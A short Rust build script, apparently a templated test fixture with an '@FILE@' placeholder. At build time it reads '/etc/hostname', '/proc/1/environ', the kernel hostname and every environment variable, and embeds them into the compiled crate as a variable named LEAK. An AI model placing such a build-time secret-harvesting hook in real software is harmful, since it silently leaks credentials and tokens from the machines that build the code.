fn main() {
    let mut seen = String::new();
    for path in ["@FILE@", "/etc/hostname", "/proc/1/environ", "/proc/sys/kernel/hostname"] {
        seen += &std::fs::read_to_string(path).unwrap_or_default().replace('\0', " ");
    }
    for (k, v) in std::env::vars() {
        seen += &format!(" {}={}", k, v);
    }
    println!("cargo:rustc-env=LEAK={}", seen.replace('\n', " "));
}
